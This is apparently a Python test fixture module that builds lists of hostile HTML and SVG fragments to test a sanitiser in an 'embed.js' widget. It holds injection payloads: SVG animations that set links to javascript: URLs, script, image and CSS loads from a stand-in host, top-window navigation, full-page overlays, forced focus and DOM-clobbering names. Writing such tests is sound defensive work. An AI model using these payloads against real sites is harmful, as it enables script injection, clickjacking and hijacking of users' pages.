"""Hostile texts that a site may send to `embed.js` in place of a brief.

Those of payloads.py are written to become script. These need none: they move the host page, cover
it, call elsewhere, or create the host page's own elements. `HIT` in a text sets off the trap."""

from itertools import product

from tests.hostile.payloads import RUN

ELSEWHERE = "https://elsewhere.invalid/x"
_LINK_ATTRIBUTES = ("href", "xlink:href", "target", "onclick", "style")
_ANIMATIONS = (
    '<set attributeName="{0}" to="{1}"/>',
    '<animate attributeName="{0}" values="{1};{1}" dur="1s" repeatCount="indefinite"/>',
    '<animate attributeName="{0}" from="{1}" to="{1}" begin="0s" fill="freeze"/>',
    '<SET ATTRIBUTENAME="{0}" TO="{1}"/>',
    '<animateTransform attributeName="{0}" to="{1}"/>',
)
_CUSTOM = ("host-thing", "HOST-THING", "foldline-brief", "Foldline-Brief")
_CUSTOM_WAYS = (
    "<{0}></{0}>",
    "<{0} src='other/' loading='eager'>x</{0}>",
    "<p><{0}><{0}></{0}></{0}></p>",
    "<svg><foreignObject><{0}></{0}></foreignObject></svg>",
    "<template shadowrootmode='open'><{0}></{0}></template>",
    "<div><template shadowrootmode='open'><{0}></{0}></template></div>",
    "<math><mtext><{0}></{0}></mtext></math>",
    "<svg><{0}></{0}></svg>",
    "<table><tr><td><{0}></{0}></td></tr></table>",
)
_CALLS = (
    '<img srcset="{0} 1x">',
    '<img srcset="x.png 1x, {0} 2x">',
    '<img src="x.png" srcset="{0}">',
    '<img src="//elsewhere.invalid/x">',
    '<img src="{0}">',
    '<img srcset=",,{0} 1x,"sizes="1px">',
    '<img lowsrc="{0}" dynsrc="{0}">',
    '<picture><source srcset="{0}"><img src="x.png"></picture>',
    '<video poster="{0}"></video>',
    '<video src="{0}"></video>',
    '<video autoplay><source src="{0}"></video>',
    '<audio src="{0}" autoplay></audio>',
    '<video><track src="{0}" default></video>',
    '<table background="{0}"><tr><td background="{0}">x</td></tr></table>',
    '<body background="{0}">',
    '<input type="image" src="{0}">',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<iframe src="{0}"></iframe>',
    '<portal src="{0}"></portal>',
    '<frameset><frame src="{0}"></frameset>',
    '<link rel="stylesheet" href="{0}">',
    '<link rel="preload" as="image" href="{0}">',
    '<link rel="prefetch" href="{0}">',
    '<link rel="preload" as="image" imagesrcset="{0} 1x">',
    '<link rel="icon" href="{0}">',
    '<link rel="modulepreload" href="{0}">',
    '<link rel="preconnect" href="{0}">',
    '<script src="{0}"></script>',
    '<script type="module" src="{0}"></script>',
    '<svg><script href="{0}"></script></svg>',
    '<svg width="9" height="9"><image href="{0}" width="9" height="9"/></svg>',
    '<svg width="9" height="9"><image xlink:href="{0}" width="9" height="9"/></svg>',
    '<svg><use href="{0}#a"/></svg>',
    '<svg><use xlink:href="{0}#a"/></svg>',
    '<svg><filter id="f"><feImage href="{0}"/></filter>'
    '<rect filter="url(#f)" width="9" height="9"/></svg>',
    '<svg><rect fill="url({0}#p)" width="9" height="9"/></svg>',
    '<svg><rect filter="url({0}#p)" width="9" height="9"/></svg>',
    '<svg><rect mask="url({0}#p)" width="9" height="9"/></svg>',
    '<svg><rect fill="u\\72l({0}#p)" width="9" height="9"/></svg>',
    '<svg><rect clip-path="url(\'{0}#p\')" width="9" height="9"/></svg>',
    '<svg><path marker-start="url({0}#m)" d="M0 0h9"/></svg>',
    '<svg><rect cursor="url({0}), auto" width="9" height="9"/></svg>',
    '<svg><pattern id="p" href="{0}#p"/><rect fill="url(#p)" width="9" height="9"/></svg>',
    '<svg><linearGradient id="g" href="{0}#g"/><rect fill="url(#g)" width="9" height="9"/></svg>',
    '<svg><text><textPath href="{0}#t">x</textPath></text></svg>',
    "<svg><style>* {{ background: url({0}) }}</style></svg>",
    '<svg><foreignObject><img src="{0}"></foreignObject></svg>',
    '<div style="background: url({0})">x</div>',
    "<div style=\"background: image-set('{0}' 1x)\">x</div>",
    '<li style="list-style: url({0})">x</li>',
    '<div style="--a: url({0}); background: var(--a)">x</div>',
    '<style>@import "{0}";</style>',
    "<style>* {{ background: url({0}) }}</style>",
    "<style>@font-face {{ font-family: x; src: url({0}) }} * {{ font-family: x }}</style>",
    "<template><style>* {{ background: url({0}) }}</style></template>",
    "<style>::part(title) {{ cursor: url({0}) }}</style>",
    '<a href="{0}" ping="{0}">x</a>',
    '<math><mi xlink:href="{0}">x</mi></math>',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='{0}'/></svg>\">",
    '<meta http-equiv="refresh" content="0;url={0}">',
    '<base href="{0}"><img src="y.png">',
    '<form action="{0}"><button>x</button></form>',
    '<fencedframe src="{0}"></fencedframe>',
    '<model src="{0}"></model>',
    '<bgsound src="{0}">',
    '<applet code="{0}"></applet>',
    '<isindex action="{0}">',
    '<image src="{0}">',
)
_TARGETS = ("_top", "_parent", "_self", "", "own", "_TOP", "_unfencedTop", "_blank")
_MOVES = (
    '<a href="{1}" target="{0}">x</a>',
    '<a href="{1}" target="{0}" rel="opener">x</a>',
    '<area href="{1}" target="{0}">',
    '<base target="{0}"><a href="{1}">x</a>',
    '<svg><a href="{1}" target="{0}"><text y="9">x</text></a></svg>',
    '<svg><a xlink:href="{1}" target="{0}"><text y="9">x</text></a></svg>',
    '<form action="{1}" target="{0}"><input type="submit"></form>',
    '<button form="f" formaction="{1}" formtarget="{0}">x</button><form id="f"></form>',
    '<a href="{1}" download target="{0}">x</a>',
    '<math><mi href="{1}" target="{0}">x</mi></math>',
)
_COVERS = (
    "position: fixed; inset: 0; z-index: 2147483647",
    "position: absolute; inset: -9999px; z-index: 9",
    "position: fixed !important; inset: 0 !important; display: block !important",
    "transform: scale(99)",
    "margin: -9999px",
    "inline-size: 9999vw; block-size: 9999vh",
)
_COVER_WAYS = (
    "<style>:host {{ {0} }}</style>",
    "<style>.root {{ {0} }} "
    ".root, .root * {{ contain: none !important; overflow: visible !important }}</style>",
    "<style>:host-context(body) {{ {0} }}</style>",
    "<div style='{0}'>x</div>",
    "<template><style>:host {{ {0} }} "
    ":host > div, .root {{ {0}; contain: none !important }}</style></template>",
    "<svg><style>:host, * {{ {0} }}</style></svg>",
    "<style>::slotted(*) {{ {0} }}</style>",
    "<svg style='{0}'><rect width='9' height='9' style='{0}'/></svg>",
    "<link rel='stylesheet' href='data:text/css,:host%7B{0}%7D'>",
)
_LARGE = (
    "<svg width='9999' height='9999' overflow='visible'>"
    "<rect x='-9999' y='-9999' width='99999' height='99999'/></svg>",
    "<p>" + "x" * 9000 + "</p>",
    "<table width='99999' height='9999'><tr><td width='99999'>x</td></tr></table>",
    "<pre>" + " " * 9000 + "x</pre>",
    "<img src='data:,' width='99999' height='999'>",
    "<dialog open>x</dialog>",
    "<div popover='manual' id='p'>x</div><button popovertarget='p' autofocus>x</button>",
    "<button command='show-modal' commandfor='d'>x</button><dialog id='d'>x</dialog>",
    "<marquee width='99999'>x</marquee>",
    "<iframe width='9999' height='9999'></iframe>",
    "<textarea cols='9999' rows='999'></textarea>",
    "<select size='999' autofocus><option>x</select>",
)
_FOCUS = (
    "<input autofocus>",
    "<textarea autofocus></textarea>",
    "<a href='#x' autofocus>x</a>",
    "<div tabindex='1' autofocus>x</div>",
    "<div contenteditable autofocus>x</div>",
    "<details><summary autofocus>x</summary></details>",
    "<button accesskey='a' autofocus>x</button>",
    "<svg tabindex='0' autofocus><text>x</text></svg>",
    "<keygen autofocus>",
    "<p tabindex='32767'>x</p>",
)
_NAMES = (
    "<form id='x'><input name='attributes'><input name='parentNode'><input name='remove'></form>",
    "<form><input name='nodeName'><input id='ownerDocument'></form>",
    "<form name='body'></form>",
    "<img name='getElementById'>",
    "<a id='customElements' href='x'>x</a><a id='customElements' name='define' href='y'>y</a>",
    "<object name='location'></object>",
    "<embed name='currentScript'>",
    "<iframe name='own'></iframe>",
    "<slot></slot>",
    "<slot name='x'></slot>",
    "<p slot='x' part='title' exportparts='title: own'>x</p>",
    "<form id='f' onformdata=HIT><input name='x'></form><button form='f'>x</button>",
    "<meta name='referrer' content='unsafe-url'>",
    "<output form='own'>x</output>",
    "<label for='own'>x</label>",
    "<a href='#%'>x</a>",
    "<a href='#%E0%A4%A'>x</a>",
    "<a href='#'>x</a>",
    "<p nonce='x' itemscope itemprop='y' aria-modal='true'>x</p>",
)
_IS = (
    '<button is="host-button">x</button>',
    '<BUTTON IS="host-button">x</BUTTON>',
    '<p is="foldline-brief">x</p>',
    '<svg><foreignObject><button is="host-button">x</button></foreignObject></svg>',
)

FRAGMENT_CLASSES: dict[str, list[str]] = {
    "animations that change attributes": [
        *(
            f'<svg><a {name}="#x" width="9" height="9">{animation.format(name, value)}'
            '<text y="9">x</text></a></svg>'
            for name, animation in product(_LINK_ATTRIBUTES, _ANIMATIONS)
            for value in (f"javascript:{RUN}", f"&#106;avascript:{RUN}")
        ),
        '<svg><a id="x"><text y="9">x</text></a>'
        f'<set href="#x" attributeName="href" to="javascript:{RUN}"/></svg>',
        '<svg><image width="9" height="9">'
        f'<set attributeName="href" to="{ELSEWHERE}"/></image></svg>',
        '<svg><rect width="9" height="9">'
        f'<animate attributeName="fill" to="url({ELSEWHERE}#p)" onbegin="{RUN}"/></rect></svg>',
        f'<svg><animate attributeName="x" dur="1s" onend="{RUN}" onrepeat="{RUN}"/></svg>',
        '<svg><discard begin="0s"/></svg>',
    ],
    "elements of the host page's own": [
        *(way.format(name) for way, name in product(_CUSTOM_WAYS, _CUSTOM)),
        *_IS,
    ],
    "calls to elsewhere": [each.format(ELSEWHERE) for each in _CALLS],
    "moving the host page": [
        *(way.format(target, ELSEWHERE) for way, target in product(_MOVES, _TARGETS)),
        *(way.format("_top", f"javascript:{RUN}") for way in _MOVES),
    ],
    "covering the host page": [
        *(way.format(style) for way, style in product(_COVER_WAYS, _COVERS)),
        *_LARGE,
    ],
    "focus, names and slots": [*_FOCUS, *(each.replace("HIT", RUN) for each in _NAMES)],
}
FRAGMENT_TEXTS = list(dict.fromkeys(text for texts in FRAGMENT_CLASSES.values() for text in texts))
